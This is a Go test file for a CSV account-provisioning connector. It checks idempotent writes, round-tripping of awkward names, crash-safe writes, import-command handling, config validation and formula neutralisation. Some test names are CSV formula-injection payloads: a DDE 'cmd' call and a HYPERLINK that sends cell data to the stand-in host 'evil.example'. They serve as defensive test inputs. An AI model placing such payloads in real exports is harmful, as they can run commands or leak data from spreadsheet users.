package csv

import (
	"bufio"
	"bytes"
	"context"
	stdcsv "encoding/csv"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ror-ikt/tilgang"
	"github.com/ror-ikt/tilgang/connectors"
	"github.com/ror-ikt/tilgang/connectors/connectortest"
)

// readFile reads the file back with the standard CSV reader: tests check
// what the importer would see, not the connector's memory.
func readFile(t testing.TB, path string, comma rune) [][]string {
	t.Helper()
	f, err := os.Open(path)
	require.NoError(t, err)
	defer f.Close()
	r := stdcsv.NewReader(f)
	r.Comma = comma
	rows, err := r.ReadAll()
	require.NoError(t, err)
	return rows
}

// row finds the person's row in a file with the default columns.
func row(t testing.TB, path, id string) []string {
	for _, r := range readFile(t, path, ',')[1:] {
		if r[0] == id {
			return r
		}
	}
	return nil
}

func open(t testing.TB, cfg Config) *Connector {
	t.Helper()
	c, err := Open("visma-flyt", cfg, nil)
	require.NoError(t, err)
	t.Cleanup(func() { c.Close() })
	return c
}

func TestContract(t *testing.T) {
	dir := t.TempDir()
	c := open(t, Config{Dir: dir})
	var n atomic.Int64
	connectortest.Run(t, connectortest.Target{
		Connector: c,
		Person: func(t *testing.T) tilgang.Person {
			return tilgang.Person{ID: fmt.Sprintf("1547-%d", n.Add(1)), GivenName: "Åse", FamilyName: "Øvergård-Bø", Municipality: "1547"}
		},
		Entitlement: "APP-Flyt-Saksbehandler",
		Member: func(t *testing.T, a connectors.Account, e string) bool {
			r := row(t, c.Path(), a.Person.ID)
			return r != nil && slices.Contains(strings.Split(r[5], "|"), e)
		},
		Enabled: func(t *testing.T, a connectors.Account) bool {
			r := row(t, c.Path(), a.Person.ID)
			return r != nil && r[4] == "true"
		},
	})
}

var ctx = context.Background()

func acct(id, given, family string) connectors.Account {
	return connectors.Account{Person: tilgang.Person{ID: id, GivenName: given, FamilyName: family, Email: id + "@aukra.kommune.no", Municipality: "1547"}}
}

// apply is one run of the same desired state.
func apply(t testing.TB, c *Connector) {
	t.Helper()
	for _, a := range []connectors.Account{acct("1547-2", "Kari", "Nordmann"), acct("1547-1", "Ola", "Hansen")} {
		_, _, err := c.EnsureAccount(ctx, a)
		require.NoError(t, err)
		require.NoError(t, c.Grant(ctx, a, "Saksbehandler"))
		require.NoError(t, c.Grant(ctx, a, "Arkiv"))
	}
	require.NoError(t, c.Disable(ctx, acct("1547-2", "", "")))
}

func TestRerunIsByteIdentical(t *testing.T) {
	for _, rows := range []string{"account", "membership"} {
		t.Run(rows, func(t *testing.T) {
			dir := t.TempDir()
			c := open(t, Config{Dir: dir, Rows: rows, Delimiter: ";", CRLF: true})
			apply(t, c)
			first, err := os.ReadFile(c.Path())
			require.NoError(t, err)
			st1, err := os.Stat(c.Path())
			require.NoError(t, err)
			writes := c.writes

			apply(t, c) // the same run again, same process
			require.Equal(t, writes, c.writes, "a run that changes nothing writes nothing")
			require.NoError(t, c.Close())
			again := open(t, Config{Dir: dir, Rows: rows, Delimiter: ";", CRLF: true})
			apply(t, again) // and after a restart
			second, err := os.ReadFile(again.Path())
			require.NoError(t, err)
			require.Equal(t, first, second)
			st2, err := os.Stat(again.Path())
			require.NoError(t, err)
			require.True(t, os.SameFile(st1, st2), "not even rewritten")
			require.Zero(t, again.writes)

			lines := strings.Split(strings.TrimSuffix(string(second), "\r\n"), "\r\n")
			seen := map[string]bool{}
			for _, l := range lines {
				require.False(t, seen[l], "line %q repeated", l)
				seen[l] = true
			}
			if rows == "account" {
				require.Equal(t, "id;given_name;family_name;email;enabled;roles\r\n"+
					"1547-1;Ola;Hansen;1547-1@aukra.kommune.no;true;Arkiv|Saksbehandler\r\n"+
					"1547-2;Kari;Nordmann;1547-2@aukra.kommune.no;false;Arkiv|Saksbehandler\r\n", string(second))
			} else {
				require.Len(t, lines, 5)
			}
		})
	}
}

// Names with quotes, delimiters, line ends and æøå come back from a
// standard CSV reader as they went in, and from the state after a restart.
func TestHostileNamesRoundTrip(t *testing.T) {
	dir := t.TempDir()
	cfg := Config{Dir: dir, Columns: []Column{{"Ansattnr", "id"}, {"Navn", "display_name"}, {"Fornavn", "given_name"},
		{"Etternavn", "family_name"}, {"Rolle", "role"}, {"Status", "status"}}, Rows: "membership"}
	c := open(t, cfg)
	names := [][2]string{
		{`Åse "Kjerringa"`, `Øvergård, Bø`},
		{"Line\nskift", "Æsøy\r\nHansen"},
		{`=cmd|' /C calc'!A0`, ` leading space`},
		{`""`, `,;,`},
	}
	for i, n := range names {
		a := acct(fmt.Sprintf("1547-%d", i), n[0], n[1])
		_, _, err := c.EnsureAccount(ctx, a)
		require.NoError(t, err)
		require.NoError(t, c.Grant(ctx, a, `Rolle "A", æ`))
	}
	check := func(path string) {
		rows := readFile(t, path, ',')
		require.Equal(t, []string{"Ansattnr", "Navn", "Fornavn", "Etternavn", "Rolle", "Status"}, rows[0])
		require.Len(t, rows, len(names)+1)
		for i, n := range names {
			r := rows[i+1]
			// encoding/csv turns \r\n inside a quoted field into \n.
			fam := strings.ReplaceAll(n[1], "\r\n", "\n")
			require.Equal(t, []string{fmt.Sprintf("1547-%d", i), strings.TrimSpace(n[0] + " " + fam), n[0], fam, `Rolle "A", æ`, "active"}, r)
		}
	}
	check(c.Path())
	require.NoError(t, c.Close())
	c2 := open(t, cfg)
	members, err := c2.ListMembers(ctx, `Rolle "A", æ`)
	require.NoError(t, err)
	require.Len(t, members, len(names))
	check(c2.Path())
}

// TestHelperProcess is the child of TestKilledMidWrite: it writes one
// complete state, then starts a second write and stops halfway through it,
// waiting to be killed.
func TestHelperProcess(t *testing.T) {
	dir := os.Getenv("TILGANG_CSV_HELPER_DIR")
	if dir == "" {
		t.Skip("only run as a child of TestKilledMidWrite")
	}
	c, err := Open("visma-flyt", Config{Dir: dir}, nil)
	if err != nil {
		fmt.Println("ERROR", err)
		os.Exit(2)
	}
	a := acct("1547-1", "Ola", "Hansen")
	if _, _, err := c.EnsureAccount(ctx, a); err != nil {
		fmt.Println("ERROR", err)
		os.Exit(2)
	}
	writeHook = func(final string) {
		if final == c.Path() {
			fmt.Println("HALFWAY")
			time.Sleep(time.Hour)
		}
	}
	for i := 0; i < 500; i++ {
		c.Grant(ctx, a, fmt.Sprintf("Rolle-%03d", i))
	}
	os.Exit(3)
}

func TestKilledMidWrite(t *testing.T) {
	dir := t.TempDir()
	cmd := exec.Command(os.Args[0], "-test.run=^TestHelperProcess$", "-test.v")
	cmd.Env = append(os.Environ(), "TILGANG_CSV_HELPER_DIR="+dir)
	out, err := cmd.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	sc := bufio.NewScanner(out)
	halfway := false
	for sc.Scan() {
		if strings.Contains(sc.Text(), "HALFWAY") {
			halfway = true
			break
		}
	}
	require.True(t, halfway, "the child reached the middle of a write")
	require.NoError(t, cmd.Process.Signal(syscall.SIGKILL))
	werr := cmd.Wait()
	var ee *exec.ExitError
	require.True(t, errors.As(werr, &ee))

	path := filepath.Join(dir, "visma-flyt.csv")
	want := "id,given_name,family_name,email,enabled,roles\n1547-1,Ola,Hansen,1547-1@aukra.kommune.no,true,\n"
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	require.Equal(t, want, string(b), "the previous complete file")
	tmps, _ := filepath.Glob(filepath.Join(dir, ".tmp-*"))
	require.NotEmpty(t, tmps, "the killed write left its half-written temporary file")

	// A new process cleans up and carries on from the state on disk, which
	// the killed one wrote before the file (so the grant it had begun is
	// there: it is written out now, and a retry of it is no second line).
	c := open(t, Config{Dir: dir})
	tmps, _ = filepath.Glob(filepath.Join(dir, ".tmp-*"))
	require.Empty(t, tmps)
	rows := readFile(t, path, ',')
	require.Len(t, rows, 2)
	require.Equal(t, "Rolle-000", rows[1][5])
	require.NoError(t, c.Grant(ctx, acct("1547-1", "", ""), "Rolle-000"))
	require.Equal(t, rows, readFile(t, path, ','))
}

func TestCommand(t *testing.T) {
	dir := t.TempDir()
	script := filepath.Join(dir, "import.sh")
	log := filepath.Join(dir, "import.log")
	require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\nif [ -e "+dir+"/fail ]; then echo refused >&2; exit 1; fi\necho \"$1 $TILGANG_CSV_FILE\" >> "+log+"\n"), 0o755))
	c := open(t, Config{Dir: dir, Command: []string{script, "{file}"}, CommandTimeout: 10 * time.Second})
	a := acct("1547-1", "Ola", "Hansen")
	_, _, err := c.EnsureAccount(ctx, a)
	require.NoError(t, err)
	require.NoError(t, c.Grant(ctx, a, "Arkiv"))
	require.NoError(t, c.Grant(ctx, a, "Arkiv")) // no change, no run
	b, err := os.ReadFile(log)
	require.NoError(t, err)
	require.Equal(t, strings.Repeat(c.Path()+" "+c.Path()+"\n", 2), string(b))

	// A failing command: the change is written, the error is retryable,
	// and the next call (even one that changes nothing) runs it again.
	require.NoError(t, os.WriteFile(filepath.Join(dir, "fail"), nil, 0o644))
	err = c.Revoke(ctx, a, "Arkiv")
	require.Error(t, err)
	require.Equal(t, tilgang.Unavailable, tilgang.KindOf(err))
	require.NoError(t, os.Remove(filepath.Join(dir, "fail")))
	require.NoError(t, c.Close())
	c = open(t, Config{Dir: dir, Command: []string{script, "{file}"}})
	require.NoError(t, c.Revoke(ctx, a, "Arkiv"))
	b, err = os.ReadFile(log)
	require.NoError(t, err)
	require.Equal(t, 3, bytes.Count(b, []byte("\n")))

	// A command that hangs is killed at its timeout.
	hang := filepath.Join(dir, "hang.sh")
	require.NoError(t, os.WriteFile(hang, []byte("#!/bin/sh\nexec sleep 30\n"), 0o755))
	c2 := open(t, Config{Dir: dir, File: "other.csv", Command: []string{hang}, CommandTimeout: 200 * time.Millisecond})
	start := time.Now()
	_, _, err = c2.EnsureAccount(ctx, a)
	require.ErrorContains(t, err, "timed out")
	require.Less(t, time.Since(start), 5*time.Second)
}

func TestValidate(t *testing.T) {
	no := false
	err := (&Config{Dir: "/nonexistent", File: "../x.csv", Rows: "cells", Delimiter: "\"", Header: &no,
		Columns: []Column{{"", "salary"}, {"R", "role"}}, Command: []string{"import.sh"}}).Validate()
	require.Error(t, err)
	require.Equal(t, tilgang.Invalid, tilgang.KindOf(err))
	for _, want := range []string{"dir: ", "file \"../x.csv\"", "rows \"cells\"", "delimiter", "salary", "no column holds the id",
		"command[0] \"import.sh\" must be an absolute path"} {
		require.ErrorContains(t, err, want)
	}
	require.NoError(t, (&Config{Dir: t.TempDir()}).Validate())
}

// A name a spreadsheet program would run as a formula reaches the file as
// it is by default (an importer takes the file literally), and as text,
// behind a single quote, with neutralise_formulas: true.
func TestNeutraliseFormulas(t *testing.T) {
	p := tilgang.Person{ID: "1547-10234", GivenName: `=cmd|' /C calc'!A0`, FamilyName: `=HYPERLINK("https://evil.example/?d="&A1,"klikk")`,
		Email: "+ola@example.test", Municipality: "1547"}
	for _, tc := range []struct {
		name       string
		neutralise bool
		want       []string
	}{
		{"default: as it is", false, []string{p.ID, p.GivenName, p.FamilyName, p.Email, "true", "@drift|Flyt-Bruker"}},
		{"neutralise_formulas: true", true, []string{p.ID, "'" + p.GivenName, "'" + p.FamilyName, "'" + p.Email, "true", "'@drift|Flyt-Bruker"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := open(t, Config{Dir: t.TempDir(), NeutraliseFormulas: tc.neutralise})
			a := connectors.Account{Person: p}
			_, _, err := c.EnsureAccount(ctx, a)
			require.NoError(t, err)
			require.NoError(t, c.Grant(ctx, a, "@drift"))
			require.NoError(t, c.Grant(ctx, a, "Flyt-Bruker"))
			require.Equal(t, tc.want, row(t, c.Path(), p.ID))
			members, err := c.ListMembers(ctx, "@drift")
			require.NoError(t, err)
			require.Equal(t, []connectors.Ref{{"id": p.ID}}, members, "the state keeps the values as they are")
		})
	}
}
